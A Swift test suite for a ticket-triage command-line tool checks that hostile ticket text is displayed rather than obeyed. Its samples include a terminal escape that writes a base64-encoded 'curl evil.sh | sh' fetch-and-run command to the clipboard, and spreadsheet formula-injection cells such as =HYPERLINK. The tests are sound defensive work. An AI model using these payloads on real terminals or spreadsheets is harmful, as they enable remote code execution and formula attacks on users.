import Foundation
import Testing

@testable import SolusiKit

/// Ticket text is untrusted: it never drives the agent's terminal and never becomes a formula in
/// a spreadsheet.
@Suite struct HostileTextTests {
    let folder: URL
    init() throws { folder = try temporaryFolder() }

    func run(_ arguments: [String]) throws -> Run {
        try solusi(arguments + ["--articles", ClassifyCommandTests.articles], in: folder)
    }

    static let escapes = "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}\u{1B}[2J\u{1B}[31m"

    @Test func controlCharactersFromTicketsAreShownNotObeyed() throws {
        // One good ticket with escape sequences everywhere, one broken record (bad date) with them too.
        // As an export writes them (escaped in JSON), and raw in a record that is rejected.
        let escaped = jsonString(Self.escapes).dropFirst().dropLast()
        let lines = [
            #"{"id":"1\#(escaped)","created_at":"2024-07-11","subject":"tombol sinkron \#(escaped)tidak ada","description":"e-Kinerja \#(escaped)\r\u202Eabc"}"#,
            #"{"id":"2","created_at":"kemarin","subject":"x \#(Self.escapes)"}"#,
        ]
        try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: folder.appendingPathComponent("t.jsonl"))
        var outputs = [try run(["ingest", "t.jsonl"])]
        #expect(outputs[0].status == 3)
        #expect(try run(["classify"]).status == 0)
        let id = "1" + Self.escapes
        for arguments in [
            ["tickets", "list"], ["tickets", "show", id], ["search", "tombol"], ["rejects"],
            ["triage", "next", "--agent", "uji"],
            ["classify", "tombol sinkron \(Self.escapes)"],
        ] {
            let result = try run(arguments)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            outputs.append(result)
        }
        for result in outputs {
            let all = result.stdout + result.stderr
            #expect(!all.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x0D })
            #expect(!all.unicodeScalars.contains { $0.value == 0x202E })
        }
        #expect(outputs.contains { $0.stdout.contains("␛]52;c;") })
        #expect(outputs[4].stdout.contains("␛[2J"), "rejects shows the raw record: \(outputs[4].stdout)")
    }

    @Test func cellsASpreadsheetWouldRunAsAFormulaAreDefused() throws {
        let rows = [
            #"1,2024-07-11,=HYPERLINK("http://x"),predikat kinerja gagal dikirim kepala sekolah,Kepala Sekolah,+62,-,open,@sum"#,
            "2,2024-07-11,\"\t=1+1\",\"\r=2+2 predikat gagal dikirim\",Kepala Sekolah,Aceh,web,open,",
        ]
        let csv = "id,created_at,subject,description,requester_role,province,channel,status,tags\n"
        try Data((csv + rows.joined(separator: "\n") + "\n").utf8).write(to: folder.appendingPathComponent("t.csv"))
        #expect(try run(["ingest", "t.csv"]).status == 0)
        #expect(try run(["classify"]).status == 0)
        #expect(try run(["export", "--format", "csv", "--out", "e.csv", "--show-personal-data"]).status == 0)
        let export = try String(contentsOf: folder.appendingPathComponent("e.csv"), encoding: .utf8)
        #expect(export.contains(#""'=HYPERLINK(""http://x"")""#) || export.contains("'=HYPERLINK"), "\(export)")
        #expect(export.contains(",'+62,") && export.contains(",'-,") && export.contains("'@sum"))
        #expect(export.contains(",'=1+1,'=2+2 predikat"))
        // Nothing else starts with a formula character.
        for line in export.split(separator: "\n") {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                #expect(!(cell.first.map { "=+-@".contains($0) } ?? false), "\(cell)")
            }
        }
    }
}

@Suite struct TerminalTextTests {
    @Test func controlsBecomePicturesAndLineBreaksStayOnlyWhenAsked() {
        #expect(terminalSafe("a\u{1B}[2Jb\u{07}\r\n\tc") == "a␛[2Jb␇␍\n\tc")
        #expect(terminalSafe("a\nb", keepingLineBreaks: false) == "a␊b")
        #expect(terminalSafe("\u{9B}31m\u{202E}txt.exe") == "\u{FFFD}31m\u{FFFD}txt.exe")
        #expect(terminalSafe("biasa saja, tanpa kendali") == "biasa saja, tanpa kendali")
        #expect(jsonString("\u{9B}\u{1B}") == #""\u009b\u001b""#)
    }
}
